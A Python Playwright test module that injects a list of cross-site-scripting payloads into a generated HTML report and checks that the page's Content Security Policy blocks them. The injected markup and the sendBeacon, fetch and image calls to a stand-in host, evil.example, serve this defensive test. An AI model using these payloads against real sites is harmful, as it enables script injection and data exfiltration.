"""Were a hostile text ever to become markup, the page's policy would still stop it: the second line of defence."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from pytest_llmbench.reports import FORMATS
from pytest_llmbench.reports.details import NO_DETAILS
from tests.browser.conftest import WATCH
from tests.reports.conftest import make_report

EVIL = "https://evil.example"
MARKUP = f"""
<base href="{EVIL}/">
<script>window.pwned = 1</script>
<script src="{EVIL}/x.js"></script>
<img src="{EVIL}/x.png" onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg>
<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>
<iframe src="{EVIL}/"></iframe>
<object data="{EVIL}/x.swf"></object>
<link rel="stylesheet" href="{EVIL}/x.css">
<style>body {{ display: none }}</style>
<p style="position: fixed; inset: 0">over all of it</p>
<a id="lure" href="javascript:window.pwned = 5">click</a>
<form id="out" action="{EVIL}/"></form>
"""
STOPPED = {
    "base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src", "require-trusted-types-for",
    "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem",
}  # fmt: skip
"""What the policy has to have refused, by the names that the browser gives."""


@pytest.fixture
def broken_into(browser: Browser, tmp_path: Path) -> Iterator[tuple[Page, list[str]]]:
    """A report in which markup got in, as it never should, and the addresses that it asked for."""
    text = FORMATS["html"](make_report(), NO_DETAILS)
    assert text.count('<div id="overview">') == 1
    file = tmp_path / "report.html"
    file.write_text(text.replace('<div id="overview">', f'{MARKUP}<div id="overview">'), "utf-8")
    asked: list[str] = []

    def refuse(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page = browser.new_page()
    page.route("https://**", refuse)
    page.add_init_script(WATCH)
    page.goto(file.as_uri())
    yield page, asked
    page.close()


def test_markup_that_got_in_runs_nothing_and_asks_nobody(broken_into: tuple[Page, list[str]]) -> None:
    page, asked = broken_into
    address = page.url
    page.evaluate("document.getElementById('lure').click(); document.getElementById('out').submit()")
    for attempt in (
        f"new Image().src = '{EVIL}/late.png'",
        f"navigator.sendBeacon('{EVIL}/beacon')",
        "document.body.innerHTML = '<b>rewritten</b>'",
        "setTimeout('window.pwned = 6')",
    ):
        page.evaluate(f"try {{ {attempt} }} catch (error) {{}}")
    assert page.evaluate(f"fetch('{EVIL}/data').then(() => 'sent', () => 'refused')") == "refused"
    page.wait_for_function(
        "wanted => wanted.every(name => window.violations.some(each => each.startsWith(name + ' ')))",
        arg=sorted(STOPPED),
    )
    assert page.evaluate("window.pwned") is None
    assert asked == []
    assert page.url == address
    assert page.locator("#rows li").count() > 0, "the page's own script runs"
    assert page.locator("body").is_visible(), "the style that got in does not count"
